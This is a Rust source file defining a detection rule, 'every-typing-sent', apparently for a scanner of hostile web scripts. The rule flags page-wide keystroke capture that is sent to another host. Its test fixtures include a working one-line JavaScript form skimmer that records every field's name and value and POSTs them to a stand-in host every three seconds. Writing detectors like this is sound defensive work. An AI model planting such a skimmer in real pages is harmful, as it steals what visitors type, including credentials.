//! `every-typing-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-typing-sent",
    description: "Whatever is typed into any field of the page is kept with its name and sent to another host again and again.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::FieldSentAbroad]), one(&[Atom::Repeat])],
    within: 200,
    only_if: Some(hears_all),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "let b=[];document.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value,u:location.href})},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
        ],
        without: &[
            "let b=[];form.addEventListener('input',e=>{b.push({n:e.target.name,v:e.target.value})});setInterval(()=>{fetch('https://draft.example/i',{method:'POST',body:JSON.stringify(b)});b=[]},3000)",
            "let n=0;document.addEventListener('input',e=>{n++},true);setInterval(()=>{fetch('https://k.example/i',{method:'POST',body:q.value+n})},3000)",
        ],
    },
};

fn hears_all(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 80);
    near.words(&["addEventListener"]).any(|at| {
        let heard = matches!(near.word(at + 2), "input" | "change" | "keyup" | "blur" | "focusout");
        let of_page = matches!(near.word(at.wrapping_sub(1)), "document" | "window" | "body");
        let kept = at + 3..at + 60;
        heard
            && of_page
            && kept.clone().any(|at| near.word(at) == "target" && near.word(at + 1) == "value")
            && kept.clone().any(|at| {
                near.word(at) == "push" && near.kind(at) == Some(Kind::Member) || near.word(at + 1) == "name"
            })
    })
}
